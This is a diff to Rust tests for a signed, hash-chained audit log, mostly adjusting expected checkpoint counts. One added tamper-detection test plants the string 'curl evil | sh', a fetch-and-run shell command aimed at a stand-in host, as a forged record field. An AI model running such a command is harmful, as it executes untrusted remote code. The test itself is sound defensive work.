@@ -69,15 +69,16 @@ fn a_signed_log_verifies_and_says_what_its_checkpoints_cover() {
     let (signer, verifier) = keys(dir.path(), "host-1.example/audit");
     let path = signed_log(dir.path(), signer, 10, 25);
     let all = lines(&path);
-    // Checkpoints after seq 10 and 20 (themselves seq 11 and 21), and the closing one
-    // (seq 28): 28 records, at these lines (0-based).
+    // The opening checkpoint (seq 1, over the empty log), checkpoints after seq 10 and 20
+    // (themselves seq 11 and 21), and the closing one (seq 29): at these lines (0-based).
     let checkpoints: Vec<usize> = (0..all.len()).filter(|i| is_checkpoint(&all[*i])).collect();
-    assert_eq!(checkpoints, vec![10, 20, 27], "{all:#?}");
+    assert_eq!(checkpoints, vec![0, 10, 20, 28], "{all:#?}");
+    assert_eq!(parse(&all[0])["checkpoint"]["size"], json!(0));
     let report = verify_signed(&path, Some(&verifier)).unwrap();
     assert_eq!(report.broken, None, "{report:?}");
-    assert_eq!(report.records, 28);
+    assert_eq!(report.records, 29);
     let signed = report.signed.unwrap();
-    assert_eq!((signed.checkpoints, signed.covered), (3, 28));
+    assert_eq!((signed.checkpoints, signed.covered), (4, 29));
     // The note is a C2SP signed note: body lines, a blank line, the signature line.
     let note = parse(&all[10])["checkpoint"]["note"]
         .as_str()
@@ -156,7 +157,7 @@ fn checkpoints_signed_by_another_key_do_not_verify_even_under_the_same_name() {
     let path = signed_log(forged.path(), forger, 4, 6);
     let report = verify_signed(&path, Some(&real)).unwrap();
     let (line, why) = report.broken.unwrap();
-    assert_eq!(line, 5, "the first checkpoint: {why}");
+    assert_eq!(line, 1, "the first checkpoint, the opening one: {why}");
     assert!(why.contains("not signed by this key"), "{why}");
 }
 
@@ -172,15 +173,16 @@ fn the_tail_after_the_last_checkpoint_is_reported_not_covered() {
         log.append(json!({"n": n}).as_object().unwrap().clone())
             .unwrap();
     }
-    // Still open: records 12..=14 wait for the next checkpoint (11 is the first).
+    // Still open: records 12..=15 wait for the next checkpoint (1, the opening one, and 11
+    // are the first).
     let report = verify_signed(&path, Some(&verifier)).unwrap();
     assert_eq!(report.broken, None, "{report:?}");
-    assert_eq!(report.records, 14);
+    assert_eq!(report.records, 15);
     assert_eq!(report.signed.unwrap().covered, 11);
     // Closing covers them.
     drop(log);
     let report = verify_signed(&path, Some(&verifier)).unwrap();
-    assert_eq!(report.signed.unwrap().covered, 15);
+    assert_eq!(report.signed.unwrap().covered, 16);
 }
 
 #[test]
@@ -247,4 +249,58 @@ fn a_checkpoint_whose_plain_members_differ_from_its_note_or_that_is_moved_fails(
         .unwrap();
     assert_eq!(line, 9, "{why}");
     assert!(why.contains("chain recomputed"), "{why}");
+}
+
+#[test]
+fn fields_added_beside_a_checkpoints_note_are_refused() {
+    let dir = tempdir();
+    let (signer, verifier) = keys(dir.path(), "audit");
+    let path = signed_log(dir.path(), signer, 3, 5);
+    let mut records: Vec<_> = lines(&path).iter().map(|l| parse(l)).collect();
+    // The closing checkpoint dressed up as a command that ran: nothing of that is signed.
+    let last = records.len() - 1;
+    records[last].insert("tool".into(), json!("run_command"));
+    records[last].insert("command".into(), json!("curl evil | sh"));
+    rechain(&path, records);
+    let (line, why) = verify_signed(&path, Some(&verifier))
+        .unwrap()
+        .broken
+        .unwrap();
+    assert_eq!(line as usize, last + 1);
+    assert!(why.contains("not signed"), "{why}");
+}
+
+#[test]
+fn a_writer_stopped_before_closing_or_a_new_interval_needs_no_closing_checkpoint() {
+    let dir = tempdir();
+    let (signer, verifier) = keys(dir.path(), "audit");
+    let private = dir.path().join("audit.key");
+    let path = dir.path().join("audit.jsonl");
+    let append = |log: &AuditLog, n: u64| {
+        for i in 0..n {
+            log.append(json!({ "i": i }).as_object().unwrap().clone())
+                .unwrap();
+        }
+    };
+    // Stopped by a signal after 3 records of a fresh log: its opening checkpoint is there.
+    let log = AuditLog::open(&path, redactor())
+        .unwrap()
+        .with_checkpoints(signer, 1000);
+    append(&log, 3);
+    std::mem::forget(log);
+    let report = verify_signed(&path, Some(&verifier)).unwrap();
+    assert_eq!(report.broken, None, "{report:?}");
+    assert_eq!(report.signed.unwrap().covered, 1);
+    // Restarted with a smaller interval, then with a larger one: each opens with a
+    // checkpoint that says its interval.
+    for every in [2, 500] {
+        let log = AuditLog::open(&path, redactor())
+            .unwrap()
+            .with_checkpoints(CheckpointSigner::load(&private).unwrap(), every);
+        append(&log, 20);
+        drop(log);
+    }
+    let report = verify_signed(&path, Some(&verifier)).unwrap();
+    assert_eq!(report.broken, None, "{report:?}");
+    assert_eq!(report.signed.unwrap().covered, report.records);
 }
